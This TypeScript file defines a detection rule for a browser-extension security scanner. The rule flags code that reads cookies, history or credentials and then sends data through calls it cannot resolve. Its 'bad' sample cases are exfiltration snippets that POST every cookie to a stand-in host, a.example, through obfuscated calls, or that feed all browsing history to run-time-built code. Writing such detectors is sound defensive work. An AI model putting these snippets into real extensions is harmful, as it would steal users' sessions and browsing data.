import { calleeOf, Op, opOf, placeAt, posOf, type ScriptFacts, scriptsOf, show } from '../../facts/javascript/query.ts';
import type { Facts } from '../../facts.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { unresolvedCall } from '../../extension/unresolvedCalls.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { sample } from '../../testing/sample.ts';
import { asksServers } from '../code/asksServers.ts';
import { type DataClass, dataClassOf } from '../../verdict/dataClassOf.ts';
import { isOfItsOwn } from '../../verdict/isOfItsOwn.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { sendingsOf } from '../code/sendings.ts';
import { say } from '../../../texts/say.ts';

/** Data that matters so much that what cannot be followed is worth a word. */
const MATTERS: ReadonlySet<DataClass> = new Set<DataClass>(['sessions', 'credentials', 'every-visit', 'private']);

export default defineRule({
  id: 'sending-not-ruled-out',
  title: 'Sending private data could not be ruled out',
  severity: 'medium',
  confidence: 'low',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'The code reads private data, and part of what it sends or calls is assembled only at run time. Where that data goes cannot be told from the code.',
  remedy:
    'Call functions by name, and write addresses and payloads where they are sent, so that a reader can follow them.',
  cap: { grade: 'B', reason: 'it could not be ruled out that private data is sent', unsure: true },
  // That text becomes a function there is said by these.
  givesWayTo: ['dynamic-code', 'remote-code', 'remote-data-to-code', 'message-to-code', 'page-content-to-code'],
  *check(facts) {
    const { flows, whole, letGo, sources } = facts.whole(flowsOf);
    const matter = sources.filter((source) => MATTERS.has(dataClassOf(facts, source) ?? 'granted'));
    if (matter.length === 0) return;
    yield* hitsOfFlows(flows, (flow) =>
      flow.sink.kind === 'unresolved' && MATTERS.has(dataClassOf(facts, flow.source) ?? 'granted')
        ? { severity: 'medium', confidence: 'low' }
        : undefined,
    );
    yield* unresolvedPayloads(facts);
    // Not all was followed, and there is something to send it with.
    const [first] = matter.filter(
      (source) =>
        !isOfItsOwn(source) &&
        (letGo.includes(source) || (!whole && flows.some(({ sink }) => sink.kind === 'network'))),
    );
    if (first !== undefined && facts.whole(asksServers)) {
      const { script, file } = first.unit;
      yield {
        place: placeAt(script, file.path, posOf(script, first.shown)),
        evidence: show(script, first.shown),
        message: say('more-code-than-analysed'),
      };
    }
  },
  examples: {
    bad: [
      sample({
        background:
          'const name = (n) => self.keys[n]; chrome.cookies.getAll({}, (all) => { self[name(3)]("https://a.example/", { method: "POST", body: JSON.stringify(all) }); });',
      }),
      sample({
        background:
          'chrome.history.search({ text: "" }, (all) => { const pack = new Function("x", self.text); pack(all); });',
      }),
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => keep(all)); function keep(x) { self.kept = x; } fetch("https://a.example/", { method: "POST", body: self[self.name.slice(2)](1) });',
      }),
    ],
    good: [
      // What is handed on is no private data.
      sample({
        background:
          'const name = (n) => self.keys[n]; chrome.cookies.getAll({}, (all) => console.log(all.length)); self[name(3)]("ready");',
      }),
      // A table of its own functions.
      sample({
        background:
          'const table = { show(x) { console.log(x); } }; chrome.runtime.onMessage.addListener((m) => chrome.cookies.getAll({}, (all) => table[m.what](all)));',
      }),
      // Nothing of a person is read.
      sample({ background: 'fetch("https://a.example/", { method: "POST", body: self[self.name.slice(2)](1) });' }),
      // The request is there to be read.
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => console.log(all)); fetch("https://a.example/", { method: "POST", body: JSON.stringify({ ready: true }) });',
      }),
    ],
  },
});

/** Requests whose address or payload comes out of a call that could not be resolved. */
function* unresolvedPayloads(facts: Facts): Iterable<Hit> {
  for (const { file, script } of scriptsOf(facts)) {
    if (file.traits.vendored || file.traits.test || file.traits.docs || !hasUnresolved(script)) continue;
    for (const { kind, value, pos, sent } of sendingsOf(script)) {
      if (kind !== 'network') continue;
      const origins = sent.flatMap((one) => [...backwardSlice(script, one)]);
      if (!origins.some((one) => isUnresolved(script, one))) continue;
      yield { place: placeAt(script, file.path, pos), evidence: show(script, value) };
    }
  }
}

const hasUnresolved = (script: ScriptFacts): boolean => script.calls.some((call) => isUnresolved(script, call));

const isUnresolved = (script: ScriptFacts, value: number): boolean =>
  (opOf(script, value) === Op.call || opOf(script, value) === Op.create) &&
  unresolvedCall(script, calleeOf(script, value)) !== undefined;
